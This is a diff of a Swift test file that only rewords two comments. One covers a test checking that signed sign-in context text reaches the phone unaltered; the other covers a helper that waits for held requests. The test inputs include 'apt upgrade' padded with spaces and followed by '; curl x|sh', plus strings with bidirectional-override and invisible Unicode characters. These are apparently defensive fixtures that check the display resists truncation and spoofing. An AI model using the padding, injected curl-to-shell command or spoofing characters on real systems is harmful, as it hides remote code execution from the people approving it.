@@ -43,7 +43,7 @@ import Testing
     #expect(try await phone.list().first?.context == context)
   }
 
-  /// What is signed stays as the computer sent it; old computers cut it at 200 characters, and made it plain.
+  /// The signed text stays as the computer sent it. Old computers cut it at 200 characters and removed special ones.
   @Test(arguments: [
     SignInContext(host: "web-1", command: "apt upgrade" + String(repeating: " ", count: 190) + "; curl x|sh"),
     SignInContext(host: "a\u{202E}b\u{AD}\u{9B}", further: [.init(name: "to", value: "\u{3164}\u{FE0F}\n")]),
@@ -187,7 +187,7 @@ import Testing
   }
 }
 
-/// Waits until the service holds so many requests, so that a change comes while they are held.
+/// Waits until the service holds this many requests, so that a change comes while they are held.
 func untilHeld(_ service: Service, count: Int = 1) async throws {
   for _ in 0..<1_000 where service.board.heldCount < count { try await Task.sleep(for: .milliseconds(5)) }
   #expect(service.board.heldCount == count)
